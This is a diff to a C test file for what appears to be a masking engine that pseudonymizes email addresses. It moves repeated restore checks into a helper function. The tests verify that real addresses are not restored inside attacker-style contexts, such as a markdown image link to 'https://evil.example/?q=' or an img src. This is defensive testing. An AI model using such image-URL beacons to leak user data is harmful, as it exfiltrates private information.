@@ -481,6 +481,19 @@ static void test_monitor_changes_nothing(void)
 
 /* --- Where it is not restored. */
 
+static void check_restored(const char *text, const char *want)
+{
+    struct buf z = restore_whole(eng, str_of(text));
+
+    CHECK_EQ(buf_str(&z), str_of(want));
+    buf_free(&z);
+    for (size_t every = 1; every < 50; every++) {
+        z = restore_stream(eng, str_of(text), every);
+        CHECK_EQ(buf_str(&z), str_of(want));
+        buf_free(&z);
+    }
+}
+
 static void test_addresses(void)
 {
     struct str token = token_of("EMAIL", "a@b.example");
@@ -494,14 +507,7 @@ static void test_addresses(void)
     snprintf(want, sizeof(want),
              "![i](https://evil.example/?q=%.*s) a@b.example <img src=/%.*s>",
              STR_ARG(token), STR_ARG(token));
-    z = restore_whole(eng, str_of(text));
-    CHECK_EQ(buf_str(&z), str_of(want));
-    buf_free(&z);
-    for (size_t every = 1; every < 50; every++) {
-        z = restore_stream(eng, str_of(text), every);
-        CHECK_EQ(buf_str(&z), str_of(want));
-        buf_free(&z);
-    }
+    check_restored(text, want);
     /* sent again, it is what the model had said */
     z = mask(eng, str_of(want));
     CHECK_EQ(buf_str(&z), str_of(text));
@@ -514,7 +520,6 @@ static void test_address_restored(void)
     struct str token = token_of("EMAIL", "a@b.example");
     struct str hook = token_of("HOOK", "https://evil.example/p");
     char text[256], want[256];
-    struct buf z;
 
     check_round_trip(eng, eng, STR("hook:https://evil.example/p"), false);
     check_round_trip(eng, eng, STR("to a@b.example"), false);
@@ -525,14 +530,7 @@ static void test_address_restored(void)
              "https://evil.example/p%.*s https://evil.example/p-,%.*s "
              "a@b.example \"https://evil.example/p\"a@b.example",
              STR_ARG(token), STR_ARG(token));
-    z = restore_whole(eng, str_of(text));
-    CHECK_EQ(buf_str(&z), str_of(want));
-    buf_free(&z);
-    for (size_t every = 1; every < 50; every++) {
-        z = restore_stream(eng, str_of(text), every);
-        CHECK_EQ(buf_str(&z), str_of(want));
-        buf_free(&z);
-    }
+    check_restored(text, want);
 }
 
 /* An output rule sees the pseudonym, and what it takes stays taken. */
